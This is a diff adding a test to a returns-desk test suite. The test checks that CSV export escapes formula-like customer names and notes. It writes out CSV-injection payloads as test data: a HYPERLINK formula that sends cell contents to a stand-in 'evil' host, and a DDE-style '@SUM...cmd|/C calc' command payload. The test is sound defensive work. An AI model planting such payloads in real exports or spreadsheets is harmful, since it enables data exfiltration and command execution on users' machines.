@@ -139,6 +139,22 @@ describe('returns desk', () => {
     expect(none.rows).toBe(0);
   });
 
+  it('export: a customer name or a note that looks like a formula is written as text', async () => {
+    await setup();
+    const r = await rec(900_011);
+    t.core.ctx
+      .workspace()
+      .db.prepare("UPDATE packages SET customer_first_name = ?, customer_last_name = NULL WHERE kind = 'return' AND id = 900011")
+      .run('=HYPERLINK("http://evil/?"&A1,"x")');
+    await t.call('returns.scanItem', { id: 900_011, code: r.lines[0]!.barcode });
+    await t.call('returns.save', { id: 900_011, lines: [], recommendation: 'accept', note: '@SUM(1+1)*cmd|/C calc' });
+    const e = await t.call('returns.export', { from: '2000-01-01', to: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10) });
+    const row = e.csv.split('\r\n').find((l) => l.startsWith('900011;'))!;
+    expect(row).toContain(`;"'=HYPERLINK(""http://evil/?""&A1,""x"")";`);
+    expect(row).toContain(`;'@SUM(1+1)*cmd|/C calc;`);
+    expect(row.split(';').filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
+  });
+
   it('stays quick with 20,000 returns (figures printed)', async () => {
     await setup(20_000);
     const time = async (what: string, fn: () => Promise<unknown>) => {
